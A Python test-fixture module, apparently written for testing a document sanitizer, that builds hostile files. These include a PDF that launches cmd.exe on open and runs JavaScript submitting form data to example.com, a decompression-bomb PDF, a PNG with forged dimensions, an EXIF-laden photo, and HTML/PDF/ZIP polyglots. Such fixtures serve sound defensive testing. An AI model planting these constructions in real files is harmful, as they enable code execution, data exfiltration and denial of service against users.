"""Files that no honest program makes, and those that dishonest people do."""

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.documents.files import pdf, picture
from tests.documents.sheets import Field, form


def active_pdf() -> bytes:
    """A filled form with everything in it that acts by itself."""
    writer = PdfWriter(
        clone_from=PdfReader(
            io.BytesIO(form("TL-100", fields=[Field("name")], values={"name": "Kari"}))
        )
    )
    writer.add_attachment("tool.exe", b"MZ" + b"\0" * 100)
    writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://example.com/track"))
    writer.add_annotation(0, Link(rect=(0, 60, 50, 90), target_page_index=1))
    launch = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    root = writer.root_object
    root[NameObject("/OpenAction")] = writer._add_object(launch)
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('https://example.com')"),
        }
    )
    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [TextStringObject("start"), writer._add_object(script)]
            ),
        }
    )
    root["/Names"][NameObject("/JavaScript")] = writer._add_object(tree)  # type: ignore[index]
    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
    media = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/RichMedia"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
        }
    )
    writer.pages[1][NameObject("/Annots")] = ArrayObject([writer._add_object(media)])
    root["/AcroForm"][NameObject("/XFA")] = TextStringObject("<xdp/>")  # type: ignore[index]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def bomb_pdf(megabytes: int = 400) -> bytes:
    """A PDF whose page is a few kilobytes that unpack to hundreds of megabytes."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(megabytes)) + packer.flush()
    writer = PdfWriter()
    page = writer.add_blank_page(612, 792)
    stream = StreamObject()
    stream._data = zlib.compress(packed, 9)
    stream[NameObject("/Filter")] = ArrayObject(
        [NameObject("/FlateDecode"), NameObject("/FlateDecode")]
    )
    page[NameObject("/Contents")] = writer._add_object(stream)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A PNG that claims so many dots."""
    png = bytearray(picture("PNG"))
    head = png.index(b"IHDR")
    png[head + 4 : head + 12] = struct.pack(">II", width, height)
    png[head + 17 : head + 21] = zlib.crc32(png[head : head + 17]).to_bytes(4, "big")
    return bytes(png)


def photo(width: int = 400, height: int = 300, orientation: int = 6) -> bytes:
    """A photo as a telephone takes it: lying, with the place and the device written into it."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SecretPhone"
    exif.get_ifd(0x8825)[1] = "N"
    image = Image.new("RGB", (width, height), "white")
    image.paste("black", (0, 0, width // 4, height))
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), comment=b"SecretComment")
    return out.getvalue()


def polyglots() -> dict[str, bytes]:
    """Files that are two kinds at once."""
    archive = b"PK\x03\x04" + b"tool.exe" * 10 + b"PK\x05\x06" + b"\0" * 18
    return {
        "a page of the web before a PDF": b"<html><script>alert(1)</script>" + pdf(),
        "an archive behind a PDF": pdf() + archive,
        "a PDF behind a picture": picture("JPEG") + pdf(),
        "an archive behind a picture": picture("PNG") + archive,
    }
